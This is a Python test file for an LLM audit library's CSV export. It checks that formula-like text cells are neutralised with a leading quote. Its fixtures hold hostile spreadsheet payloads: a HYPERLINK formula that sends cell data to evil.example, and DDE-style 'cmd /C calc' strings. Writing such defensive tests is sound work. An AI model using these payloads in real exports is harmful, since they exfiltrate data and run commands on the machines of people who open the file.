"""CSV export against formula injection: no recorded text reaches a spreadsheet as a formula.

Read back with the real ``csv`` module: every text cell that starts like a formula (``=``, ``+``,
``-``, ``@``, their full-width forms, also after leading whitespace; or a tab or carriage return) has a
leading ``'``, everything else is exactly what was recorded, and numeric columns stay numbers.
"""

from __future__ import annotations

import csv
import json
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner

import llmaudit
from llmaudit import AuditRecord
from llmaudit.cli import cli

# private: unit tests of pure helpers (codec, chain, decoders, cost, ...) with no public entry point
from llmaudit.read.export import export

NOW = datetime(2026, 12, 1, 12, 0, tzinfo=timezone.utc)
FORMULAS = {
    "session_key": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "user": "+cmd|' /C calc'!A0",
    "client": "-2+3+cmd|' /C calc'!A0",
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
    "error": "\t=1+1",
    "operation": "\r=1+1",
    "provider": "  =1+1",
    "method": "\n@x",
    "url": "\uff1d1+1",
    "parent_session_key": " \t-1",
}
TRIGGERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
NUMERIC = ("status_code", "duration_ms", "ttft_ms", "input_tokens", "output_tokens", "total_tokens")
NUMERIC += ("cost_usd", "attempt", "seq")


def _formula_like(cell: str) -> bool:
    return cell[:1] in {"\t", "\r"} or cell.lstrip()[:1] in TRIGGERS


def _formulas(row: dict[str, str]) -> list[str]:
    """The columns a spreadsheet would evaluate: formula-like cells that are not plain numbers."""
    return [name for name, cell in row.items() if _formula_like(cell) and name not in NUMERIC]


def _hostile() -> AuditRecord:
    return AuditRecord(
        created_at=NOW,
        request="=1+1",  # JSON text of a string starts with a quote: safe as it is
        response=-1,  # JSON text "-1": a text cell like any other
        tags=("=tag",),
        status_code=500,
        duration_ms=12.5,
        input_tokens=7,
        output_tokens=0,
        total_tokens=7,
        cost_usd=-0.25,  # a refund: a real number, negative, must stay a number
        attempt=2,
        **FORMULAS,
    )


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def test_formula_cells_are_neutralised_and_the_rest_is_untouched(tmp_path: Path) -> None:
    """Each formula-like text cell gets one leading quote; safe text and numbers do not."""
    record = _hostile()
    path = tmp_path / "out.csv"
    assert export([record], str(path)) == 1
    (row,) = _rows(path)
    for name, value in FORMULAS.items():
        assert row[name] == "'" + value, name
    assert not _formulas(row)
    assert row["request"] == '"=1+1"'
    assert row["response"] == "'-1"
    assert row["tags"] == '["=tag"]'
    assert row["id"] == record.id  # ids and timestamps are safe text, written as they are
    assert row["created_at"].startswith("2026-12-01T12:00:00")


def test_numeric_columns_stay_numbers(tmp_path: Path) -> None:
    """Tokens, cost (negative too), latency, status and attempt are plain numbers a spreadsheet sums."""
    path = tmp_path / "out.csv"
    export([_hostile()], str(path))
    (row,) = _rows(path)
    assert float(row["cost_usd"]) == -0.25
    assert float(row["duration_ms"]) == 12.5
    counts = [int(row[n]) for n in ("status_code", "input_tokens", "output_tokens", "attempt")]
    assert counts == [500, 7, 0, 2]


def test_an_interrupted_export_resumes_even_with_a_formula_like_id(tmp_path: Path) -> None:
    """The id column is read back without its quote, so a resumed export adds no duplicate."""
    record = AuditRecord(id="=1+1", created_at=NOW, session_key="=s")
    path = tmp_path / "out.csv"
    assert export([record], str(path)) == 1
    assert export([record, AuditRecord(created_at=NOW)], str(path)) == 1
    ids = [row["id"] for row in _rows(path)]
    assert len(ids) == 2
    assert ids[0] == "'=1+1"


def test_the_cli_export_of_a_store_neutralises_formulas(tmp_path: Path) -> None:
    """End to end: a record written to SQLite, exported by ``llmaudit export --to FILE.csv``."""
    url = f"sqlite:///{tmp_path / 'a.db'}"
    with llmaudit.Auditor(url, spool_dir=str(tmp_path / "spool")) as auditor:
        auditor.submit(_hostile())
    path = tmp_path / "cli.csv"
    result = CliRunner().invoke(cli, ["export", "-s", url, "--to", str(path)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    (row,) = _rows(path)
    assert not _formulas(row)
    assert row["session_key"] == "'" + FORMULAS["session_key"]
    assert json.loads(row["metadata"]) == {}


@pytest.mark.parametrize(
    ("text", "neutralised"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@a", True),
        ("\t1", True),
        ("\r1", True),
        ("   =1", True),
        ("\n\n+1", True),
        ("\uff0b1", True),
        ("a=1", False),
        ("1-2", False),
        ("", False),
        ("'=1", False),
        ("hello world", False),
    ],
)
def test_which_text_is_neutralised(tmp_path: Path, text: str, neutralised: bool) -> None:
    """OWASP's starting characters, also after whitespace; anything else is left exactly as it is."""
    path = tmp_path / "one.csv"
    export([AuditRecord(created_at=NOW, user=text or None)], str(path))
    (row,) = _rows(path)
    assert row["user"] == ("'" + text if neutralised else text)
